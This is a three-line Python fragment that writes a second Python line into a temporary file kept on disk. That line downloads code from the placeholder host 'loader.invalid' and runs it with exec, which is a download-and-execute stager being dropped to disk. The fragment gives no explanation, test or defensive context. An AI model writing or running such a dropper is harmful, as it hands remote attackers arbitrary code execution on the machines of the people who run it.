from tempfile import NamedTemporaryFile
tmp = NamedTemporaryFile(delete=False)
tmp.write(b"""from urllib.request import urlopen as u;exec(u('http://loader.invalid/x').read())""")
